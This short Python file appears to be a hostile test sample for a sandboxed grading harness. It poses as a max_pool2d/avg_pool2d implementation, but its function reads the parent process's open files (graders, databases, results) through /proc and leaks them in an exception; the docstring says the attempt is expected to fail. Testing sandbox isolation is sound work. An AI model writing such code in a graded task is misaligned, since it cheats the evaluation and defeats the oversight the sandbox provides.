"""Steals: opens what the parent has open (databases, graders, results) anew through /proc/<ppid>/fd.

Fails because /proc is not granted.
"""

import os

FOLDER = f"/proc/{os.getppid()}/fd"


def max_pool2d(x, kernel_size, stride=None, padding=0):
    held = {}
    for name in os.listdir(FOLDER):
        target = os.readlink(f"{FOLDER}/{name}")
        if target.startswith("/") and not target.startswith("/dev"):
            held[target] = open(f"{FOLDER}/{name}", "rb").read(10_000)
    raise RuntimeError(held)


avg_pool2d = max_pool2d
